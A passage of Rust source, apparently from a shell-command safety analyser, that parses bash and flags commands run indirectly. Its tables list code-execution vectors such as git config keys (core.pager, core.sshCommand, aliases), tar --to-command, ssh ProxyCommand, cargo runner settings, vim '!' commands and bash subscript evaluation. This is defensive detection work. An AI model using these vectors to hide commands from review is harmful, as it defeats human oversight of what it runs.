                if a == "-I" || a == "-J" {
                    replace = rest.get(i + 1).cloned();
                    i += 1;
                } else if let Some(r) = a.strip_prefix("--replace=") {
                    replace = Some(if r.is_empty() { "{}" } else { r }.to_string());
                } else if a == "-i" || a == "--replace" {
                    replace = Some("{}".into());
                } else if let Some(r) = a.strip_prefix("-I").or_else(|| a.strip_prefix("-i")) {
                    replace = Some(r.to_string());
                }
                i += 1;
            }
            for t in self.piped_texts(c) {
                if replace.is_some() {
                    inputs.extend(t.lines().map(str::to_string));
                } else {
                    inputs.extend(t.split_whitespace().map(str::to_string));
                }
            }
        } else {
            replace = Some("{}".into());
            if let Some(at) = inner.iter().position(|a| a == ":::" || a == "::::") {
                inputs.extend(inner[at + 1..].iter().cloned());
                inner.truncate(at);
                inner_dyn.truncate(at);
            }
            for t in self.piped_texts(c) {
                inputs.extend(t.lines().map(str::to_string));
            }
        }
        let uses_replace = |args: &[String]| {
            replace
                .as_deref()
                .is_some_and(|r| !r.is_empty() && args.iter().any(|a| a.contains(r)))
        };
        if inner.is_empty() {
            // `parallel ::: CMD...`: each input is a command line.
            let mut layers = c.layers.clone();
            layers.push(format!("{name} input"));
            for input in inputs.iter().take(16) {
                self.parse_code(input, depth + 1, &layers);
            }
            return;
        }
        if inputs.is_empty() {
            // Unknown input: a shell given the input as its code runs whatever arrives.
            let shell_code = inner
                .first()
                .is_some_and(|n| is_shell(canon::command_basename(n)))
                && (uses_replace(inner) || replace.is_none());
            if shell_code && dash_c_index("sh", &inner[1..]).is_some() {
                let mut own = vec![name.to_string()];
                own.extend(rest[..skip].iter().cloned());
                let mut outer = c.clone();
                outer.layers.pop();
                self.push(own, text.to_string(), &outer, vec![Finding::CodeFromInput]);
            }
            return;
        }
        // Each input once (up to a bound), with the input in place.
        let templated = uses_replace(inner);
        let mut extra = Vec::new();
        if replace.is_some() && templated {
            if let Some(r) = replace.as_deref() {
                for input in inputs.iter().take(16) {
                    extra.push(
                        inner
                            .iter()
                            .map(|a| a.replace(r, input))
                            .collect::<Vec<_>>(),
                    );
                }
            }
        } else if name == "parallel" {
            for input in inputs.iter().take(16) {
                let mut argv = inner.clone();
                argv.push(input.clone());
                extra.push(argv);
            }
        } else {
            let mut argv = inner.clone();
            argv.extend(inputs.iter().take(256).cloned());
            extra.push(argv);
        }
        if let Some(first) = extra.pop() {
            for argv in extra {
                let d = vec![false; argv.len()];
                self.unwrap(argv, d, text.to_string(), c, depth);
            }
            *inner_dyn = vec![false; first.len()];
            *inner = first;
        }
    }

    /// `printf -v 'a[$(cmd)]'`, `read 'a[$(cmd)]'`, `unset`, `let`, `declare`: bash evaluates an
    /// array subscript in a variable name as arithmetic, which runs command substitutions.
    fn subscripts(&mut self, argv: &[String], ctx: &Ctx, depth: u32) {
        let name = argv
            .first()
            .map(|n| canon::command_basename(n))
            .unwrap_or("");
        if !matches!(
            name,
            "printf"
                | "read"
                | "unset"
                | "let"
                | "declare"
                | "typeset"
                | "local"
                | "export"
                | "readonly"
                | "mapfile"
                | "readarray"
                | "test"
                | "["
                | "wait"
                | "getopts"
                | "shift"
                | "return"
                | "exit"
        ) {
            return;
        }
        for a in &argv[1..] {
            let Some(open) = a.find('[') else { continue };
            let inner = &a[open + 1..];
            let inner = inner.rfind(']').map_or(inner, |close| &inner[..close]);
            if inner.contains("$(") || inner.contains('`') || name == "let" {
                let mut layers = ctx.layers.clone();
                layers.push(format!("{name} subscript"));
                // The subscript is expanded like a word in double quotes.
                self.parse_code(&format!(": \"{inner}\""), depth + 1, &layers);
            }
        }
    }

    fn push(&mut self, argv: Vec<String>, text: String, ctx: &Ctx, mut findings: Vec<Finding>) {
        self.record_writes(&argv, ctx);
        let mut words = canon::canonical_words(&argv, &ctx.redirects);
        for f in &ctx.findings {
            if !findings.contains(f) {
                findings.push(f.clone());
            }
        }
        // Text fed on stdin to a program (`psql <<< 'DROP TABLE x'`) is an operand for matching;
        // shells and interpreters had it parsed or judged already.
        if let Some(stdin) = &ctx.stdin_text
            && words.first().is_some_and(|w| !is_shell(&w.text))
        {
            canon::insert_operand(&mut words, stdin.clone());
        }
        self.out.commands.push(SimpleCommand {
            words,
            text,
            layers: ctx.layers.clone(),
            pipeline: ctx.pipeline,
            findings,
            stdin_text: ctx.stdin_text.clone(),
            argv,
        });
    }
}

/// Options whose value is a command the program runs, per program (and subcommand where it
/// matters): `(program, subcommand or "", option spellings)`. Values are parsed as code, so the
/// command is judged by what it runs.
const CODE_OPTIONS: &[(&str, &str, &[&str])] = &[
    ("git", "", &["--upload-pack", "--receive-pack", "--exec"]),
    ("git", "fetch", &["-u"]),
    ("git", "clone", &["-u"]),
    ("git", "rebase", &["-x", "--exec"]),
    ("git", "difftool", &["-x", "--extcmd"]),
    ("git", "mergetool", &["--tool-cmd"]),
    ("go", "", &["-exec", "-toolexec"]),
    ("sort", "", &["--compress-program"]),
    (
        "tar",
        "",
        &[
            "--to-command",
            "--use-compress-program",
            "-I",
            "--info-script",
            "--new-volume-script",
            "-F",
        ],
    ),
    ("rsync", "", &["-e", "--rsh", "--rsync-path"]),
    ("scp", "", &["-S"]),
    ("zip", "", &["-TT", "--unzip-command"]),
    ("man", "", &["-P", "--pager", "-H"]),
    ("flock", "", &["-c", "--command"]),
    ("script", "", &["-c", "--command"]),
    ("npm", "", &["--script-shell"]),
    ("su", "", &["-s", "--shell"]),
    ("gdb", "", &["-ex", "--eval-command"]),
];

/// `git -c KEY=VALUE` keys whose value is a command git runs (`!cmd` for aliases and helpers).
fn git_key_runs_code(key: &str) -> bool {
    let key = key.to_ascii_lowercase();
    matches!(
        key.as_str(),
        "core.pager"
            | "core.sshcommand"
            | "core.editor"
            | "core.fsmonitor"
            | "core.askpass"
            | "core.gitproxy"
            | "sequence.editor"
            | "diff.external"
            | "gpg.program"
            | "gpg.ssh.program"
            | "gpg.x509.program"
            | "uploadpack.packobjectshook"
            | "interactive.difffilter"
            | "credential.helper"
            | "web.browser"
    ) || key.starts_with("pager.")
        || key.starts_with("alias.")
        || key.starts_with("filter.")
        || key.ends_with(".textconv")
        || key.ends_with(".command")
        || key.ends_with(".driver")
        || key.ends_with(".cmd")
        || key.ends_with(".helper")
}

/// The values of `option` in `args` (options before a `--`): `--opt=V`, `--opt V`, `-oV` for a
/// short option, and `-opt V` for single-dash long ones.
fn option_values<'a>(args: &'a [String], option: &str) -> Vec<(usize, &'a str)> {
    let mut out = Vec::new();
    let mut i = 0;
    while i < args.len() {
        let a = args[i].as_str();
        if a == "--" {
            break;
        }
        if a == option {
            if let Some(v) = args.get(i + 1) {
                out.push((i + 1, v.as_str()));
            }
            i += 2;
            continue;
        }
        if let Some(v) = a.strip_prefix(option) {
            if let Some(v) = v.strip_prefix('=') {
                out.push((i, v));
            } else if !v.is_empty() && option.len() == 2 && !option.starts_with("--") {
                out.push((i, v));
            }
        }
        i += 1;
    }
    out
}

impl Walker {
    /// Options that make a program run another command (`git -c core.pager=CMD`, `tar
    /// --to-command=CMD`, `ssh -o ProxyCommand=CMD`, `vim -c '!CMD'`, `git bisect run CMD`):
    /// the command is parsed and judged as code.
    fn program_options(
        &mut self,
        name: &str,
        rest: &[String],
        rest_dyn: &[bool],
        ctx: &Ctx,
        depth: u32,
        findings: &mut Vec<Finding>,
    ) {
        const PROGRAMS: &[&str] = &[
            "git", "go", "sort", "tar", "rsync", "scp", "sftp", "ssh", "zip", "man", "flock",
            "script", "npm", "su", "gdb", "cargo", "vim", "vi", "nvim", "view", "vimdiff", "ex",
            "gvim",
        ];
        if rest.is_empty() || !PROGRAMS.contains(&name) {
            return;
        }
        let sub = rest
            .iter()
            .find(|a| !canon::is_flag(a))
            .map(String::as_str)
            .unwrap_or("");
        let mut code: Vec<(String, String, bool)> = Vec::new();
        for (prog, want_sub, options) in CODE_OPTIONS {
            if *prog != name || (!want_sub.is_empty() && *want_sub != sub) {
                continue;
            }
            for opt in *options {
                for (i, v) in option_values(rest, opt) {
                    code.push((format!("{name} {opt}"), v.to_string(), rest_dyn[i]));
                }
            }
        }
        match name {
            "git" => {
                for (i, kv) in option_values(rest, "-c") {
                    let (key, value) = kv.split_once('=').unwrap_or((kv, ""));
                    if key.eq_ignore_ascii_case("core.hooksPath") {
                        findings.push(Finding::EnvInjection);
                    }
                    if git_key_runs_code(key) {
                        let value = value.strip_prefix('!').unwrap_or(value);
                        code.push((format!("git -c {key}"), value.to_string(), rest_dyn[i]));
                    }
                }
                // `git bisect run CMD ARGS...` runs CMD at every step.
                if let Some(at) = rest
                    .windows(2)
                    .position(|w| w[0] == "bisect" && w[1] == "run")
                    && at + 2 < rest.len()
                {
                    let mut c = ctx.clone();
                    c.layers.push("git bisect run".into());
                    c.findings = Vec::new();
                    c.redirects = Vec::new();
                    c.stdin_text = None;
                    self.unwrap(
                        rest[at + 2..].to_vec(),
                        rest_dyn[at + 2..].to_vec(),
                        rest[at + 2..].join(" "),
                        &c,
                        depth,
                    );
                }
            }
            "ssh" | "scp" | "sftp" | "rsync" => {
                for (i, v) in option_values(rest, "-o") {
                    let (key, value) = v
                        .split_once(['=', ' '])
                        .map(|(k, v)| (k.trim(), v.trim()))
                        .unwrap_or((v, ""));
                    if matches!(
                        key.to_ascii_lowercase().as_str(),
                        "proxycommand" | "localcommand" | "knownhostscommand" | "remotecommand"
                    ) {
                        code.push((format!("{name} -o {key}"), value.to_string(), rest_dyn[i]));
                    }
                }
            }
            "cargo" => {
                for (i, v) in option_values(rest, "--config") {
                    let (key, value) = v.split_once('=').unwrap_or((v, ""));
                    let key = key.trim();
                    if key.ends_with("runner")
                        || key.ends_with("rustc-wrapper")
                        || key.ends_with("rustc-workspace-wrapper")
                        || key.ends_with("linker")
                        || key.ends_with("rustc")
                    {
                        let value = value.trim().trim_matches(['"', '\'', '[', ']']);
                        code.push((
                            format!("cargo --config {key}"),
                            value.to_string(),
                            rest_dyn[i],
                        ));
                    }
                }
            }
            "vim" | "vi" | "nvim" | "view" | "vimdiff" | "ex" | "gvim" => {
                let mut cmds: Vec<(usize, &str)> = option_values(rest, "-c");
                cmds.extend(option_values(rest, "--cmd"));
                for (i, a) in rest.iter().enumerate() {
                    if let Some(c) = a.strip_prefix('+') {
                        cmds.push((i, c));
                    }
                }
                for (i, c) in cmds {
                    if let Some(at) = c.find('!') {
                        code.push((format!("{name} -c !"), c[at + 1..].to_string(), rest_dyn[i]));
                    } else if c.contains("system(") || c.contains("terminal") || c.contains("py") {
                        findings.push(Finding::DynamicCode);
                    }
                }
            }
            _ => {}
        }
        for (label, value, dynamic) in code {
            if dynamic {
                findings.push(Finding::DynamicCode);
            } else if !value.trim().is_empty() {
                let mut layers = ctx.layers.clone();
                layers.push(label);
                self.parse_code(&value, depth + 1, &layers);
            }
        }
    }

    /// Remember files this command writes: their literal content (for a shell that runs one
    /// later) and whether one is a runner's build input.
    fn record_writes(&mut self, argv: &[String], ctx: &Ctx) {
        let name = argv
            .first()
            .map(|n| canon::command_basename(n))
            .unwrap_or("");
        if ctx.redirects.is_empty()
            && !matches!(
                name,
                "tee" | "cp" | "mv" | "install" | "ln" | "rsync" | "sed" | "perl"
            )
        {
            return;
        }
        let mut targets: Vec<&str> = ctx.redirects.iter().map(String::as_str).collect();
        let operands: Vec<&str> = argv
            .iter()
            .skip(1)
            .map(String::as_str)
            .filter(|a| !canon::is_flag(a))
            .collect();
        match name {
            "tee" => targets.extend(operands.iter().copied()),
            "cp" | "mv" | "install" | "ln" | "rsync" => targets.extend(operands.last().copied()),
            "sed" | "perl" if argv.iter().any(|a| a.starts_with("-i")) => {
                targets.extend(operands.iter().copied())
            }
            _ => {}
        }
        if targets.iter().any(|t| is_build_input(t)) {
            self.wrote_build_input = true;
        }
        if targets.is_empty() {
            return;
        }
        let probe = SimpleCommand {
            words: Vec::new(),
            text: String::new(),
            layers: Vec::new(),
            pipeline: None,
            findings: Vec::new(),
            stdin_text: ctx.stdin_text.clone(),
            argv: argv.to_vec(),
        };
        let content = if name == "tee" {
            ctx.stdin_text.clone()
        } else {
            literal_output(&probe)
        };
        if let Some(content) = content {
            for t in targets {
                self.written
                    .push((canon::normalise_path(t), content.clone()));
            }
        }
    }
}

/// The literal text a command prints: `echo`/`printf` words, or the heredoc or here-string
/// that `cat` copies.
fn literal_output(c: &SimpleCommand) -> Option<String> {
    let name = c.argv.first().map(|n| canon::command_basename(n))?;
    let operands = || c.argv.iter().skip(1).filter(|a| !canon::is_flag(a));
    match name {
        "echo" | "printf" => Some(
            operands()
                .cloned()
                .collect::<Vec<_>>()
                .join(" ")
                .replace("\\n", "\n"),
        ),
        "cat" if operands().all(|a| a == "-") => c.stdin_text.clone(),
        _ => None,
    }
}

/// The index in `rest` of a shell's `-c` (also combined: `-lc`, `-ec`, `-xc`), if any option
/// before the first operand has it.
fn dash_c_index(name: &str, rest: &[String]) -> Option<usize> {
    for (i, a) in rest.iter().enumerate() {
        if a == "--" {
            return None;
        }
        if name == "su" {
            if a == "-c" || a == "--command" {
                return Some(i);
            }
            continue;
        }
        if !canon::is_flag(a) {
            return None;
        }
        if !a.starts_with("--")
            && a.chars().skip(1).all(|c| c.is_ascii_alphabetic())
            && a.contains('c')
        {
            return Some(i);
        }
        if a == "-o" || a == "+o" || a == "-O" || a == "+O" {
            // `bash -o pipefail -c ...`: skip the option's value.
            continue;
        }
    }
    None
}

/// How many leading words of `rest` belong to a wrapper (its options and their values), so
/// `rest[n..]` is the wrapped command.
fn wrapper_operands(name: &str, rest: &[String]) -> usize {
    // Options that take a separate value, per wrapper.
    let with_value: &[&str] = match name {
        "sudo" => &[
            "-u", "-g", "-C", "-D", "-h", "-p", "-r", "-t", "-U", "-T", "-R", "--user", "--group",
            "--chdir",
        ],
        "doas" => &["-u", "-C"],
        "env" => &[
            "-u",
            "-C",
            "-S",
            "-P",
            "--unset",
            "--chdir",
            "--split-string",
        ],
        "nice" => &["-n", "--adjustment"],
        "ionice" => &["-c", "-n", "-p", "-P", "-u", "--class", "--classdata"],
        "timeout" | "gtimeout" => &["-s", "-k", "--signal", "--kill-after"],
        "stdbuf" => &["-i", "-o", "-e"],
        // GNU's `-i[R]`, `-l[N]` and `-e[EOF]` take only an attached value.
        "xargs" => &[
            "-I",
            "-J",
            "-n",
            "-P",
            "-L",
            "-d",
            "-E",
            "-s",
            "-a",
            "--arg-file",
            "--delimiter",
            "--max-args",
            "--max-procs",
            "--replace",
        ],
        "exec" => &["-a"],
        "chrt" => &["-p"],
        "watch" => &["-n", "-d", "--interval", "--differences", "-q", "--equexit"],
        "ssh" => &[
            "-p", "-i", "-l", "-o", "-F", "-J", "-L", "-R", "-D", "-b", "-c", "-e", "-m", "-O",
            "-Q", "-S", "-W", "-w", "-B", "-E", "-I",
        ],
        "flock" => &["-w", "-E", "-c", "--timeout", "--conflict-exit-code"],
        "parallel" => &[
            "-j",
            "--jobs",
            "-S",
            "--sshlogin",
            "--joblog",
            "--results",
            "-I",
        ],
        "strace" | "ltrace" => &["-e", "-o", "-p", "-s", "-u"],
        "pkexec" => &["--user"],
        "run0" => &["-u", "--user"],
        _ => &[],
    };
    let mut i = 0;
    while i < rest.len() {
        let a = &rest[i];
        if a == "--" {
            return i + 1;
        }
        if name == "env" && ((!a.starts_with('-') && a.contains('=')) || a == "-") {
            // `env -` is `env -i`.
            i += 1;
            continue;
        }
        if canon::is_flag(a) || (name == "nice" && a.starts_with('-')) {
            let takes_value = with_value.contains(&a.as_str()) && !a.contains('=');
            i += if takes_value { 2 } else { 1 };
            continue;
        }
        break;
    }
    // Leading operands that are not the command: timeout's duration, taskset's mask, flock's file.
    let positional = match name {
        "timeout" | "gtimeout" | "taskset" | "flock" => 1,
        "chrt" => 1,
        _ => 0,
    };
    (i + positional).min(rest.len())
}

fn wrapper_label(name: &str, options: &[String]) -> String {
    if options.is_empty() {
        name.to_string()
    } else {
        format!("{name} {}", options.join(" "))
    }
}

/// Whether a word has the shape of a shell assignment: `NAME=...` or `NAME+=...`.
fn is_assignment_word(word: &str) -> bool {
    let Some((name, _)) = word.split_once('=') else {
        return false;
    };
    let name = name.strip_suffix('+').unwrap_or(name);
    let mut chars = name.chars();
    chars
        .next()
        .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
        && chars.all(|c| c.is_ascii_alphanumeric() || c == '_')
}

/// The variable of an assignment's source text: `FOO` in `FOO=1` and `FOO+=1`.
fn assignment_variable(text: &str) -> &str {
    text.split_once('=')
        .map(|(n, _)| n)
        .unwrap_or(text)
        .trim_end_matches('+')
}

fn node_text<'a>(node: Node<'_>, src: &'a str) -> &'a str {
    src.get(node.byte_range()).unwrap_or("")
}

fn assignment_name(node: Node<'_>, src: &str) -> String {
    let text = node_text(node, src);
    match text.split_once('=') {
        Some((name, _)) => format!("{name}="),
        None => text.to_string(),
    }
}

/// The unquoted value of a word-like node, and whether it contains an expansion whose value is
/// unknown until run time.
fn word_value(node: Node<'_>, src: &str) -> (String, bool) {
    let mut out = String::new();
    let dynamic = append_value(node, src, &mut out);
    (out, dynamic)
}

fn append_value(node: Node<'_>, src: &str, out: &mut String) -> bool {
    let text = node_text(node, src);
    match node.kind() {
        "word" | "number" | "command_name" if node.named_child_count() == 0 => {
            push_unescaped(text, out);
            false
        }
        "raw_string" => {
            out.push_str(
                text.strip_prefix('\'')
                    .and_then(|t| t.strip_suffix('\''))
                    .unwrap_or(text),
            );
            false
        }
        "ansi_c_string" => {
            let inner = text
                .strip_prefix("$'")
                .and_then(|t| t.strip_suffix('\''))
                .unwrap_or(text);
            out.push_str(&unescape_ansi_c(inner));
            false
        }
        "string" => {
            // Double quotes: literal parts, escapes and embedded expansions, in order.
            let inner_start = node.start_byte() + 1;
            let inner_end = node.end_byte().saturating_sub(1).max(inner_start);
            let mut pos = inner_start;
            let mut dynamic = false;
            let mut cursor = node.walk();
            for child in node.named_children(&mut cursor) {
                if child.start_byte() > pos {
                    push_dquote_unescaped(src.get(pos..child.start_byte()).unwrap_or(""), out);
                }
                if child.kind() == "string_content" {
                    push_dquote_unescaped(node_text(child, src), out);
                } else {
                    dynamic |= append_value(child, src, out);
                }
                pos = child.end_byte();
            }
            if inner_end > pos {
                push_dquote_unescaped(src.get(pos..inner_end).unwrap_or(""), out);
            }
            dynamic
        }
        "simple_expansion" | "expansion" => {
            let name = text
                .trim_start_matches('$')
                .trim_start_matches('{')
                .trim_end_matches('}');
            if name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_') {
                out.push('$');
                out.push_str(name);
            } else {
                out.push_str(text);
            }
            true
        }
        "command_substitution" | "process_substitution" | "arithmetic_expansion" => {
            out.push_str(text);
            true
        }
        "concatenation" | "command_name" => {
            let mut dynamic = false;
            let mut pos = node.start_byte();
            let mut cursor = node.walk();
            for child in node.children(&mut cursor) {
                if child.start_byte() > pos {
                    push_unescaped(src.get(pos..child.start_byte()).unwrap_or(""), out);
                }
                dynamic |= append_value(child, src, out);
                pos = child.end_byte();
            }
            if node.end_byte() > pos {
                push_unescaped(src.get(pos..node.end_byte()).unwrap_or(""), out);
            }
            dynamic
        }
        _ if node.named_child_count() == 0 => {
            push_unescaped(text, out);
            false
        }
        _ => {
            out.push_str(text);
            true
        }
    }
}

/// Unquoted word text: a backslash escapes the next character.
fn push_unescaped(text: &str, out: &mut String) {
    let mut chars = text.chars();
    while let Some(c) = chars.next() {
        if c == '\\' {
            match chars.next() {
                Some('\n') | None => {}
                Some(n) => out.push(n),
            }
        } else if c == '\'' || c == '"' {
            // Quote characters left in an unparsed fragment are removed, as the shell would.
        } else {
            out.push(c);
        }
    }
}

/// Inside double quotes a backslash escapes only `$`, backquote, `"`, `\` and newline.
fn push_dquote_unescaped(text: &str, out: &mut String) {
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        if c == '\\' {
            match chars.peek() {
                Some('$' | '`' | '"' | '\\') => {
                    if let Some(n) = chars.next() {
                        out.push(n);
                    }
                }
                Some('\n') => {
                    chars.next();
                }
                _ => out.push('\\'),
            }
        } else {
            out.push(c);
        }
    }
}

fn unescape_ansi_c(inner: &str) -> String {
    let mut out = String::new();
    let mut chars = inner.chars().peekable();
    while let Some(c) = chars.next() {
        if c != '\\' {
            out.push(c);
            continue;
        }
        match chars.next() {
            Some('n') => out.push('\n'),
            Some('t') => out.push('\t'),
            Some('r') => out.push('\r'),
            Some('e' | 'E') => out.push('\u{1b}'),
            Some('x') => {
                let mut hex = String::new();
                while hex.len() < 2 && chars.peek().is_some_and(|c| c.is_ascii_hexdigit()) {
                    hex.extend(chars.next());
                }
                if let Some(ch) = u32::from_str_radix(&hex, 16).ok().and_then(char::from_u32) {
                    out.push(ch);
                }
            }
            Some(d @ '0'..='7') => {
                let mut oct = String::from(d);
                while oct.len() < 3 && chars.peek().is_some_and(|c| ('0'..='7').contains(c)) {
                    oct.extend(chars.next());
                }
                if let Some(ch) = u32::from_str_radix(&oct, 8).ok().and_then(char::from_u32) {
                    out.push(ch);
                }
            }
            Some('u' | 'U') => {
                let mut hex = String::new();
                while hex.len() < 8 && chars.peek().is_some_and(|c| c.is_ascii_hexdigit()) {
                    hex.extend(chars.next());
                }
                if let Some(ch) = u32::from_str_radix(&hex, 16).ok().and_then(char::from_u32) {
                    out.push(ch);
                }
            }
            Some(other) => out.push(other),
            None => out.push('\\'),
        }
    }
    out
}

/// The target of an output redirection (`>`, `>>`, `&>`, `>|`, `2>`), or None for input
/// redirections and descriptor duplications (`2>&1`).
fn output_target(node: Node<'_>, src: &str) -> Option<String> {
    let text = node_text(node, src);
    let mut cursor = node.walk();
    let dest = node
        .child_by_field_name("destination")
        .or_else(|| node.named_children(&mut cursor).last())?;
    let op_text = src.get(node.start_byte()..dest.start_byte()).unwrap_or("");
    if !op_text.contains('>') {
        return None;
    }
    let target = word_value(dest, src).0;
    // `2>&1`, `>&-`: a descriptor duplication, not a file. `>& FILE` is a file.
    if op_text.contains(">&")
        && !text.contains("&>")
        && (target == "-" || target.chars().all(|c| c.is_ascii_digit()))
    {
        return None;
    }
    Some(target)
}

/// The input tree-sitter-bash reads. Its scanner calls `isdigit()` on the character after `{`
/// (and after `{N..N`), which is undefined for code points above U+00FF and crashes on some
/// (tree-sitter-bash#337: `echo {` followed by U+E0100). Such a character is replaced by as many
/// DEL bytes as it has: both lexers treat every character from `~` up, DEL and all non-ASCII
/// alike (the generated lexer's word set is `'~'..=U+10FFFF`; the scanner's `isw*` calls are
/// false for all of them in the C locale), so the tree has the same shape and byte offsets,
/// and the words are still read from the original text.
fn grammar_safe(code: &str) -> std::borrow::Cow<'_, str> {
    if code.is_ascii() || !code.contains('{') {
        return std::borrow::Cow::Borrowed(code);
    }
    let bytes = code.as_bytes();
    let mut out: Option<Vec<u8>> = None;
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i] != b'{' {
            i += 1;
            continue;
        }
        // `{`, digits, optionally `..` and digits: the scanner's isdigit() loops.
        let mut j = i + 1;
        while bytes.get(j).is_some_and(u8::is_ascii_digit) {
            j += 1;
        }
        if bytes.get(j) == Some(&b'.') && bytes.get(j + 1) == Some(&b'.') {
            j += 2;
            while bytes.get(j).is_some_and(u8::is_ascii_digit) {
                j += 1;
            }
        }
        if let Some(c) = code.get(j..).and_then(|r| r.chars().next())
            && u32::from(c) > 0xFF
        {
            let buf = out.get_or_insert_with(|| bytes.to_vec());
            for b in &mut buf[j..j + c.len_utf8()] {
                *b = 0x7F;
            }
        }
        i += 1;
    }
    match out.map(String::from_utf8) {
        Some(Ok(s)) => std::borrow::Cow::Owned(s),
        _ => std::borrow::Cow::Borrowed(code),
    }
}

/// A redirected statement with more of the line after its heredoc, rewritten with the body as
/// a here-string: `cat <<EOF; a | b⏎body⏎EOF` -> `cat <<< 'body⏎' ; a | b`. None when nothing
/// follows the heredoc; empty when another heredoc does (not followed here).
fn heredoc_line_as_herestring(node: Node<'_>, src: &str) -> Option<String> {
    let mut cursor = node.walk();
    let redirect = node
        .named_children(&mut cursor)
        .find(|c| c.kind() == "heredoc_redirect")?;
    let mut cur = redirect.walk();
    let start = redirect
        .named_children(&mut cur)
        .find(|p| p.kind() == "heredoc_start")?;
    let after = src.get(start.end_byte()..)?;
    let rest = after.split('\n').next().unwrap_or("");
    if rest.trim().is_empty() {
        return None;
    }
    if rest.contains("<<") {
        // Several heredocs on one line: their bodies cannot be told apart here.
        return Some(String::new());
    }
    let body = heredoc_body(redirect, src).unwrap_or_default();
    let head = src.get(node.start_byte()..redirect.start_byte())?;
    Some(format!(
        "{head} <<< '{}' {rest}",
        body.replace('\'', "'\\''")
    ))
}

/// The text-level form of [`heredoc_line_as_herestring`] for lines tree-sitter-bash cannot
/// parse: the first line with one `<<DELIM` followed by more of the line gets its body (the
/// lines up to `DELIM`) as a here-string; the lines after the body stay.
fn heredoc_as_herestring_text(code: &str) -> Option<String> {
    let lines: Vec<&str> = code.split('\n').collect();
    for (n, line) in lines.iter().enumerate() {
        let Some(at) = line.find("<<") else { continue };
        let after = &line[at + 2..];
        if after.starts_with('<') || after.contains("<<") {
            return None;
        }
        let after = after.strip_prefix('-').unwrap_or(after);
        let word_start = after.len() - after.trim_start().len();
        let word_len = after[word_start..]
            .find(|c: char| c.is_whitespace() || ";&|<>()".contains(c))
            .unwrap_or(after.len() - word_start);
        let raw = &after[word_start..word_start + word_len];
        let delim = raw.trim_matches(['\'', '"']).trim_start_matches('\\');
        let rest = &after[word_start + word_len..];
        if delim.is_empty() || rest.trim().is_empty() {
            return None;
        }
        let end = lines[n + 1..]
            .iter()
            .position(|l| l.trim_start_matches('\t') == delim)
            .map(|p| n + 1 + p)?;
        let body = lines[n + 1..end].join("\n");
        let mut out: Vec<String> = lines[..n].iter().map(|l| (*l).to_string()).collect();
        out.push(format!(
            "{} <<< '{}' {rest}",
            &line[..at],
            body.replace('\'', "'\\''")
        ));
        out.extend(lines[end + 1..].iter().map(|l| (*l).to_string()));
        return Some(out.join("\n"));
    }
    None
}

fn heredoc_body(node: Node<'_>, src: &str) -> Option<String> {
    let mut cursor = node.walk();
    let body = node
        .named_children(&mut cursor)
        .find(|n| n.kind() == "heredoc_body")?;
    Some(node_text(body, src).to_string())
}

/// The plainest command lines, split without tree-sitter: words of plain characters and whole
/// quoted strings, `NAME=value` assignments before the command name, joined by `|`, `&&`, `||`
/// and `;`. Anything else (expansions, redirections, globs with brackets, keywords, comments,
/// escapes, newlines outside quotes, concatenated quotes) is `None` and goes to tree-sitter.
/// On every line it accepts, the walk over its result pushes exactly what the walk over
/// tree-sitter's syntax tree pushes (a unit test compares both on generated lines).
mod plain {
    /// Statements separated by `;`; each is a chain of pipelines joined by `&&` or `||`; each
    /// pipeline is one or more commands.
    pub(super) type Line<'a> = Vec<Vec<Vec<Command<'a>>>>;

    /// One simple command.
    pub(super) struct Command<'a> {
        /// Leading assignments: (source text, unquoted value).
        pub(super) assignments: Vec<(&'a str, &'a str)>,
        /// Unquoted words; the first is the command name.
        pub(super) words: Vec<&'a str>,
        /// Source text from the first assignment or word to the last word.
        pub(super) text: &'a str,
    }

    /// Longest line, and most commands, handled here; longer ones go to tree-sitter.
    const MAX_BYTES: usize = 4096;
    const MAX_COMMANDS: usize = 64;

    /// Words that tree-sitter-bash reads as syntax in command position.
    const KEYWORDS: &[&str] = &[
        "if", "then", "else", "elif", "fi", "case", "esac", "for", "select", "while", "until",
        "do", "done", "in", "function", "declare", "typeset", "export", "readonly", "local",
        "unset", "unsetenv", "coproc", "time",
    ];

    /// Characters of unquoted words; no quoting, expansion, glob bracket, brace, redirection,
    /// comment or control character, and none that tree-sitter-bash was seen to misread
    /// (`t@x`, `a%b`).
    fn is_plain(b: u8) -> bool {
        b.is_ascii_alphanumeric()
            || matches!(
                b,
                b'_' | b'.' | b'/' | b':' | b'+' | b',' | b'=' | b'~' | b'*' | b'-'
            )
    }

    /// A command name tree-sitter-bash reads as one word: it reads `- A=1` as an assignment
    /// alone and the `a:b` of `X=1 a:b` as an error.
    fn is_plain_name(s: &str) -> bool {
        let mut bytes = s.bytes();
        bytes
            .next()
            .is_some_and(|b| b.is_ascii_alphanumeric() || b"_./~".contains(&b))
            && bytes.all(|b| b.is_ascii_alphanumeric() || b"_./~+-".contains(&b))
    }

    /// A variable name that starts with a letter (tree-sitter-bash reads `_=` as a word).
    fn is_name(s: &str) -> bool {
        let mut bytes = s.bytes();
        bytes.next().is_some_and(|b| b.is_ascii_alphabetic())
            && bytes.all(|b| b.is_ascii_alphanumeric() || b == b'_')
    }

    /// `NAME=` or `NAME+=` at the start of `s`: the length of that prefix.
    fn assignment_prefix(s: &str) -> Option<usize> {
        let eq = s.find('=')?;
        let name = s[..eq].strip_suffix('+').unwrap_or(&s[..eq]);
        is_name(name).then_some(eq + 1)
    }

    enum Token<'a> {
        Word(Word<'a>),
        AndAnd,
        OrOr,
        Pipe,
        Semi,
        End,
    }

    struct Word<'a> {
        start: usize,
        end: usize,
        /// The unquoted value when the token is a word; None for `NAME='quoted'`, which is
        /// only an assignment.
        value: Option<&'a str>,
        /// The unquoted value of `NAME='quoted'` (plain `NAME=value` is found by `command`).
        assigned: Option<&'a str>,
        /// Unquoted plain characters (a keyword or a name with `=` is only one of those).
        plain: bool,
    }

    struct Scanner<'a> {
        src: &'a str,
        pos: usize,
    }

    impl<'a> Scanner<'a> {
        fn byte(&self, at: usize) -> Option<u8> {
            self.src.as_bytes().get(at).copied()
        }

        fn skip_blanks(&mut self) {
            while matches!(self.byte(self.pos), Some(b' ' | b'\t')) {
                self.pos += 1;
            }
        }

        /// The end of a quoted string opened at `open`, if its content is acceptable.
        fn quoted_end(&self, open: usize) -> Option<usize> {
            let quote = self.byte(open)?;
            let rest = self.src.get(open + 1..)?;
            let len = rest.bytes().position(|b| b == quote)?;
            let inner = &rest[..len];
            let bad_control = inner
